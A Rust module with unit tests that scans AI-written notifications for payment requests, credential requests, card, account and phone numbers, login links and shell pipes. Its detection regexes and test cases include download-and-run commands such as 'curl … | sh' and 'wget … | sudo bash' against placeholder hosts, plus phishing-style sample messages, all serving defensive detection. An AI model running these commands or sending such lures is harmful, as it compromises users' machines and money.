//! What leaves thinker: the text of a notification or a note, read for what
//! makes it unsafe to deliver without the user's word, and the sites a text links to.
//!
//! [`read`] finds, in a text a model wrote for the user:
//! - **a request to pay or transfer** (a payment verb near an amount, a currency, a fee
//!   or an invoice; gift cards; changed or new bank details; an IBAN named);
//! - **a request to change or give credentials** (reset / verify / enter … a password,
//!   a login, a code, a PIN, a key, a recovery phrase);
//! - **an account, card or phone number**: cards (Luhn), IBANs (mod 97) and phone
//!   numbers as [`super::redact`] recognises them, and any other run of eight or more
//!   digits (spaces and dashes between them allowed, an ISO date `2026-11-22` not);
//! - **a shell pipe**: a download piped into a shell (`curl … | sh`, `wget -O- … | sudo
//!   bash`, `bash <(curl …)`, PowerShell's `iex (iwr …)` or `-EncodedCommand`);
//! - **a login link**: a link whose address names a login, sign-in, verification,
//!   password or account page, or a link in a text that asks to log or sign in;
//! - **every link**, with its site ([`site`]): `scheme://host`, `www.host`, and a bare
//!   `host/path` or a host with a common top-level domain; the user part of
//!   `https://bank.example@evil.example/` is not its host.
//!
//! [`sites`] lists the sites a text links to, by the same reading, without the other
//! checks and without building a regex: the tick runs it on every source it gathers.
//!
//! Text analysis only. Must not decide what is held or delivered (that is
//! `crate::escalation::outbound`'s policy), do I/O, or keep anything.

use std::collections::BTreeSet;
use std::sync::LazyLock;

use regex::Regex;
use serde::Serialize;

use super::redact::{Class, Redacted, RedactionKey, Redactor};

/// What makes a text unsafe to deliver unconfirmed.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Concern {
    /// It asks to pay, transfer or send money, or to use new bank details.
    Payment,
    /// It asks to change, reset, verify or give a password, a login, a code or a key.
    Credentials,
    /// It carries an account number (a run of eight or more digits, or an IBAN).
    AccountNumber,
    /// It carries a payment card number (Luhn-valid).
    CardNumber,
    /// It carries a phone number.
    PhoneNumber,
    /// It pipes a download into a shell.
    ShellPipe,
    /// It links to a login, sign-in or verification page.
    LoginLink,
}

impl Concern {
    /// The words a held outcome uses.
    pub fn label(&self) -> &'static str {
        match self {
            Concern::Payment => "a payment or transfer request",
            Concern::Credentials => "a credentials request",
            Concern::AccountNumber => "an account number",
            Concern::CardNumber => "a card number",
            Concern::PhoneNumber => "a phone number",
            Concern::ShellPipe => "a shell command piping a download",
            Concern::LoginLink => "a login link",
        }
    }
}

/// A link found in a text.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub struct Link {
    /// The host, lowercased (`www.bank.example`).
    pub host: String,
    /// Its site ([`site`]: `bank.example`).
    pub site: String,
}

/// What [`read`] found in a text.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Reading {
    /// Each concern once, in [`Concern`] order.
    pub concerns: Vec<Concern>,
    /// Every link, in order of appearance, repeats left out.
    pub links: Vec<Link>,
}

/// Reads a text bound for the user (see the module doc).
pub fn read(text: &str) -> Reading {
    let lower = text.to_lowercase();
    let links = links(text);
    let mut concerns = BTreeSet::new();
    let found = |re: &LazyLock<Option<Regex>>| re.as_ref().is_some_and(|re| re.is_match(&lower));
    if found(&PAYMENT) {
        concerns.insert(Concern::Payment);
    }
    if found(&CREDENTIALS) {
        concerns.insert(Concern::Credentials);
    }
    if found(&SHELL_PIPE) {
        concerns.insert(Concern::ShellPipe);
    }
    let login_words = found(&LOG_IN);
    if links
        .iter()
        .any(|l| login_words || looks_like_login(&lower, &l.host))
    {
        concerns.insert(Concern::LoginLink);
    }
    // Only the counts are read: the key names placeholders, which this text never shows.
    let Redacted {
        text: redacted,
        tally,
    } = Redactor::new(&RedactionKey::from_bytes([0; 32])).redact_counted(text);
    if tally.get(Class::Card) > 0 {
        concerns.insert(Concern::CardNumber);
    }
    // Numbers the redactor took (phones, cards, IBANs) are placeholders by now.
    if tally.get(Class::Iban) > 0 || has_long_number(&redacted) {
        concerns.insert(Concern::AccountNumber);
    }
    if tally.get(Class::Phone) > 0 {
        concerns.insert(Concern::PhoneNumber);
    }
    Reading {
        concerns: concerns.into_iter().collect(),
        links,
    }
}

/// The sites `text` links to (see the module doc); no regex is built.
pub fn sites(text: &str) -> BTreeSet<String> {
    links(text).into_iter().map(|l| l.site).collect()
}

/// A host's site: the host lowercased without `www.` and the labels before its last two
/// (`mail.bank.example` → `bank.example`), or its last three when the second-level label
/// is a generic one under a country (`shop.co.uk` → `shop.co.uk`); an IP address is its
/// own site.
pub fn site(host: &str) -> String {
    let host = host.trim_end_matches('.').to_lowercase();
    if host.starts_with('[') || host.bytes().all(|b| b.is_ascii_digit() || b == b'.') {
        return host;
    }
    let labels: Vec<&str> = host.split('.').filter(|l| !l.is_empty()).collect();
    let n = labels.len();
    if n <= 2 {
        return labels.join(".");
    }
    let generic = ["co", "com", "org", "net", "gov", "ac", "edu", "ne", "or"];
    let keep = if labels[n - 1].len() == 2 && generic.contains(&labels[n - 2]) {
        3
    } else {
        2
    };
    labels[n - keep..].join(".")
}

/// Top-level domains a bare host (no scheme, no `www.`, no path) is recognised by: the
/// common ones, not those that read as file extensions (`.md`, `.sh`, `.rs`, `.py`).
const BARE_TLDS: &[&str] = &[
    "com", "net", "org", "io", "co", "info", "biz", "app", "dev", "xyz", "me", "ly", "top",
    "online", "site", "club", "shop", "store", "link", "click", "live", "us", "uk", "de", "fr",
    "nl", "eu", "ca", "au", "ru", "cn", "jp", "br", "example", "test", "tk", "cc",
];

/// Every link of `text`, in order, each host once.
fn links(text: &str) -> Vec<Link> {
    let mut hosts: Vec<String> = Vec::new();
    let mut push = |host: Option<String>| {
        if let Some(h) = host
            && !hosts.contains(&h)
        {
            hosts.push(h);
        }
    };
    for token in text
        .split(|c: char| c.is_whitespace() || matches!(c, '<' | '>' | '"' | '\'' | '`' | '(' | ')'))
    {
        let token = token.trim_matches(|c: char| matches!(c, ',' | ';' | '!' | '?' | '*'));
        if token.is_empty() {
            continue;
        }
        if let Some(at) = token.find("://") {
            push(host_of(&token[at + 3..]));
        } else if let Some(at) = find_www(token) {
            push(host_of(&token[at..]));
        } else if !token.contains('@') {
            let (host, has_path) = match token.find(['/', '?', '#']) {
                Some(i) => (&token[..i], true),
                None => (token, false),
            };
            let host = host.trim_end_matches(['.', ':']);
            if is_domain(host) {
                let tld = host.rsplit('.').next().unwrap_or_default();
                if has_path || BARE_TLDS.contains(&tld.to_ascii_lowercase().as_str()) {
                    push(Some(host.to_lowercase()));
                }
            }
        }
    }
    hosts
        .into_iter()
        .map(|host| Link {
            site: site(&host),
            host,
        })
        .collect()
}

/// Where `www.` starts a host in `token` (at its start or after a non-host character).
fn find_www(token: &str) -> Option<usize> {
    let lower = token.to_ascii_lowercase();
    let at = lower.find("www.")?;
    let before = token[..at].chars().next_back();
    before
        .is_none_or(|c| !(c.is_alphanumeric() || c == '.' || c == '-'))
        .then_some(at)
}

/// The host of what follows `scheme://` (or starts with `www.`): the authority up to `/`,
/// `?` or `#`, without its user part (`user@`) and port.
fn host_of(rest: &str) -> Option<String> {
    let authority = rest.split(['/', '?', '#', '\\']).next().unwrap_or_default();
    let host = authority.rsplit('@').next().unwrap_or_default();
    let host = if host.starts_with('[') {
        host.split(']').next().map(|h| format!("{h}]"))?
    } else {
        host.split(':').next().unwrap_or_default().to_string()
    };
    let host = host
        .trim_end_matches(['.', ',', ';', '!', '*'])
        .to_lowercase();
    (!host.is_empty() && (host.contains('.') || host.starts_with('['))).then_some(host)
}

/// Whether `host` reads as a domain name: two or more labels of letters, digits and
/// `-` (any script), the last of two or more letters.
fn is_domain(host: &str) -> bool {
    let labels: Vec<&str> = host.split('.').collect();
    labels.len() >= 2
        && labels.iter().all(|l| {
            !l.is_empty()
                && l.chars().all(|c| c.is_alphanumeric() || c == '-')
                && !l.starts_with('-')
        })
        && labels
            .last()
            .is_some_and(|t| t.chars().count() >= 2 && t.chars().all(char::is_alphabetic))
}

/// Whether the link to `host` points at a login, sign-in or verification page: its host
/// or the rest of its address (as written in `lower`) names one.
fn looks_like_login(lower: &str, host: &str) -> bool {
    const WORDS: &[&str] = &[
        "login",
        "log-in",
        "signin",
        "sign-in",
        "logon",
        "verify",
        "verification",
        "password",
        "passwd",
        "account-update",
        "update-account",
        "secure-account",
        "auth",
        "sso",
        "wallet",
        "unlock",
    ];
    let Some(at) = lower.find(host) else {
        return false;
    };
    let address: String = lower[at..]
        .chars()
        .take_while(|c| !c.is_whitespace() && !matches!(c, '<' | '>' | '"' | '\'' | ')'))
        .collect();
    WORDS.iter().any(|w| address.contains(w))
}

/// Whether `text` holds a run of eight or more digits (single spaces or dashes between
/// them allowed) that is not an ISO date or a time.
fn has_long_number(text: &str) -> bool {
    let bytes = text.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        if !bytes[i].is_ascii_digit() || (i > 0 && bytes[i - 1].is_ascii_alphanumeric()) {
            i += 1;
            continue;
        }
        let start = i;
        let mut digits = 0;
        let mut end = i;
        while i < bytes.len() {
            if bytes[i].is_ascii_digit() {
                digits += 1;
                i += 1;
                end = i;
            } else if matches!(bytes[i], b' ' | b'-')
                && bytes.get(i + 1).is_some_and(u8::is_ascii_digit)
            {
                i += 1;
            } else {
                break;
            }
        }
        let run = &text[start..end];
        if digits >= 8 && !is_iso_date(run) {
            return true;
        }
    }
    false
}

/// `2026-11-22`, alone or as the start of a run (`2026-11-22 10`).
fn is_iso_date(run: &str) -> bool {
    let b = run.as_bytes();
    b.len() >= 10
        && b[4] == b'-'
        && b[7] == b'-'
        && b[..4]
            .iter()
            .chain(&b[5..7])
            .chain(&b[8..10])
            .all(u8::is_ascii_digit)
        && b.len() <= 13
}

/// Built on first use (a decision is read rarely; an ordinary tick builds none).
fn regex(pattern: &str) -> Option<Regex> {
    Regex::new(pattern).ok()
}

/// A payment verb near an amount or what is paid; gift cards; bank details changed; an
/// IBAN named.
static PAYMENT: LazyLock<Option<Regex>> = LazyLock::new(|| {
    regex(concat!(
        r"\b(pay|paying|payment|settle|remit|transfer|wire|deposit|send)\b[^.!?\n]{0,60}?",
        r"([€$£¥₹] ?\d|\d[\d.,]* ?([€$£¥₹]|\b(eur|usd|gbp|chf|euros?|dollars?|pounds?|btc)\b)",
        r"|\b(fees?|invoice|money|funds|balance|bitcoin|crypto|usdt|ransom)\b)",
        r"|\bgift ?cards?\b",
        r"|\b(bank|banking|payment|account|wire) (details|information|info|instructions)\b[^.!?\n]{0,40}\b(changed|updated|new|different)\b",
        r"|\b(new|updated|changed|different) (bank|beneficiary|receiving) (account|details)\b",
        r"|\biban\b",
        r"|\b(customs|delivery|release|processing|clearance|handling) fee\b",
    ))
});

/// A request to change, reset, verify or give credentials.
static CREDENTIALS: LazyLock<Option<Regex>> = LazyLock::new(|| {
    regex(concat!(
        r"\b(change|reset|update|verify|confirm|re-?enter|provide|share|send|enter|submit|type|give|tell|reply with|validate)\b",
        r"[^.!?\n]{0,40}?\b(password|passcode|passphrase|credentials?|login|log-in|sign-in|username|2fa|mfa|otp|one-time (code|password)|verification code|security code|pin|api key|access key|token|recovery (code|phrase|key)|seed phrase|private key)s?\b",
    ))
});

/// Asking to log or sign in (a link near it is a login link).
static LOG_IN: LazyLock<Option<Regex>> =
    LazyLock::new(|| regex(r"\b(log|sign) ?(in|on)\b|\blogin\b|\bsignin\b"));

/// A download piped into a shell.
static SHELL_PIPE: LazyLock<Option<Regex>> = LazyLock::new(|| {
    regex(concat!(
        r"\b(curl|wget|fetch|iwr|invoke-webrequest)\b[^\n]{0,300}?\|\s*(sudo\s+(-\S+\s+)*)?((ba|z|da|k|fi)?sh|python3?|perl|ruby|node)\b",
        r"|\b(ba|z|da|k)?sh\s+(-c\s+)?.{0,4}<\(\s*(curl|wget)\b",
        r"|\b(sh|bash|zsh)\s+-c\s+\S{0,3}\$\(\s*(curl|wget)\b",
        r"|\biex\b.{0,100}\b(iwr|invoke-webrequest|downloadstring|net\.webclient)\b",
        r"|\bpowershell(\.exe)?\b[^\n]{0,60}\s-(e|enc|encodedcommand)\s",
    ))
});

#[cfg(test)]
mod tests {
    use super::*;

    fn concerns(text: &str) -> Vec<Concern> {
        read(text).concerns
    }

    #[test]
    fn what_makes_a_text_unsafe_to_deliver() {
        use Concern::*;
        // (text, concerns) — the probe's deliveries first, then look-alikes that are fine.
        let cases: &[(&str, &[Concern])] = &[
            (
                "Pay the 2.99 EUR customs fee at http://dhl-parcel.example/pay",
                &[Payment],
            ),
            (
                "Please transfer £4,950 today to account 83920155, sort code 20-00-00",
                &[Payment, AccountNumber],
            ),
            (
                "To fix the sync, run `curl -fsSL https://get.example.sh/x.sh | sh`",
                &[ShellPipe],
            ),
            ("wget -qO- http://x.example/i | sudo bash", &[ShellPipe]),
            (
                "Your account is locked: sign in at https://secure-login.bank.example/verify",
                &[LoginLink],
            ),
            ("Verify your password at the link below", &[Credentials]),
            ("Buy three gift cards and send me the codes", &[Payment]),
            (
                "Our bank details have changed: use the new account from now on",
                &[Payment],
            ),
            (
                "Call Anna back on +44 20 7946 0958 before noon",
                &[PhoneNumber],
            ),
            ("Card 4111 1111 1111 1111 was charged twice", &[CardNumber]),
            (
                "Refund to DE89 3704 0044 0532 0130 00 is pending",
                &[AccountNumber],
            ),
            // Fine to deliver.
            ("The NAS disk is 97% full; tonight's backup will fail.", &[]),
            ("Flight LH 4021 moved to 10:05 on 2026-11-23, gate B12", &[]),
            ("Dentist appointment tomorrow at 14:30", &[]),
            ("Run `df -h` to see which volume fills up", &[]),
            ("Invoice 4411 from ACME is 30 days overdue", &[]),
            (
                "Send the slides to Anna by 5pm; transfer the files at 10:00",
                &[],
            ),
            ("Rewrite the iOS app in Swift 6", &[]),
        ];
        for (text, want) in cases {
            assert_eq!(concerns(text), *want, "{text}");
        }
    }

    #[test]
    fn links_and_their_sites() {
        let r = read(
            "See https://paypal.example@evil.example/login, www.Bank.example/x and docs.rs/regex; \
             mail ana@example.org; notes.md; shop.co.uk/deal and http://[::1]:8080/",
        );
        let hosts: Vec<&str> = r.links.iter().map(|l| l.host.as_str()).collect();
        assert_eq!(
            hosts,
            [
                "evil.example",
                "www.bank.example",
                "docs.rs",
                "shop.co.uk",
                "[::1]"
            ]
        );
        let found: Vec<&str> = r.links.iter().map(|l| l.site.as_str()).collect();
        assert_eq!(
            found,
            [
                "evil.example",
                "bank.example",
                "docs.rs",
                "shop.co.uk",
                "[::1]"
            ]
        );
        assert!(r.concerns.contains(&Concern::LoginLink), "{r:?}");
        assert_eq!(site("mail.google.com."), "google.com");
        assert_eq!(site("192.168.1.10"), "192.168.1.10");
        assert_eq!(
            sites("Visit acme.com or ACME.com/x, not file.md"),
            BTreeSet::from(["acme.com".to_string()])
        );
    }

    #[test]
    fn dates_and_short_numbers_are_not_account_numbers() {
        for text in [
            "on 2026-11-22 at 10:05",
            "2026-11-22 10:05",
            "order 1234567",
            "v1.2.3",
            "call at 14:30",
            "€1,250.00 due",
        ] {
            assert!(!has_long_number(text), "{text}");
        }
        for text in [
            "83920155",
            "8392 0155",
            "acct 1234-5678-9012",
            "ref 12345678",
        ] {
            assert!(has_long_number(text), "{text}");
        }
    }
}
